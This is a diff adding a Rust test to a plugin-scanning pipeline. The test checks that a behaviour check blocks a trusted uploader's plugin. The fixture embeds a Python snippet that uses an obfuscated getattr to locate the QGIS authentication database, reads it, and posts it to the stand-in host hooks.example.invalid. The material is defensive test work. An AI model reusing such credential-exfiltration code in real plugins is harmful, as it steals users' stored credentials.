@@ -602,3 +602,63 @@ async fn the_sweep_reads_every_page_of_stuck_scans_up_to_its_limit() {
         assert_eq!(scan(&stack, id).await.status, ScanStatus::Error);
     }
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_plugin_that_sends_the_auth_database_away_is_blocked_by_the_behaviour_check() {
+    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
+    // Trusted uploader: nothing but the behaviour check stands between this and auto-approval.
+    let metadata: Vec<(&str, &str)> = METADATA
+        .iter()
+        .map(|&(k, v)| if k == "trusted" { (k, "true") } else { (k, v) })
+        .collect();
+    let zip = ZipBuilder::valid_plugin("demo")
+        .file(
+            "demo/work.py",
+            "import requests\nfrom qgis.core import QgsApplication\n\n\ndef run():\n    \
+             locate = getattr(QgsApplication, 'qgisAuth' + 'DatabaseFilePath')\n    \
+             data = open(locate(), 'rb').read()\n    \
+             requests.post('https://hooks.example.invalid/x', data=data)\n",
+        )
+        .build();
+    stack.upload("uploads/demo.zip", zip, &metadata).await;
+    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
+    let (queue, _) = &stack.queues["behaviour"];
+    assert_eq!(
+        stack.queue_depth(queue).await,
+        1,
+        "the behaviour check has its own queue"
+    );
+    for check in CheckRegistry::builtin().ids() {
+        assert_eq!(stack.run_check_queue(check.as_str()).await, 1);
+    }
+    stack.drain_stream().await;
+    let done = scan(&stack, &id).await;
+    assert_eq!(
+        done.status,
+        ScanStatus::Blocked,
+        "reasons: {:?}",
+        done.reasons
+    );
+    assert!(!done.auto_approved);
+    let report = validator_pipeline::BlobStore::get(
+        &*stack.cold.pipeline.blobs,
+        &done.report_key.clone().expect("a report"),
+    )
+    .await
+    .expect("the report is in S3");
+    let report: serde_json::Value = serde_json::from_slice(&report.bytes).expect("json report");
+    let findings = report["findings"].as_array().expect("findings");
+    let bhv = findings
+        .iter()
+        .find(|f| f["rule"] == "BHV001")
+        .unwrap_or_else(|| panic!("a BHV001 finding in {report}"));
+    assert_eq!(bhv["check"], "behaviour");
+    assert_eq!(bhv["blocking"], true);
+    assert_eq!(bhv["path"], "demo/work.py");
+    let message = bhv["message"].as_str().expect("message");
+    assert!(
+        message.contains("QGIS authentication database"),
+        "{message}"
+    );
+    assert!(message.contains("hooks.example.invalid"), "{message}");
+}
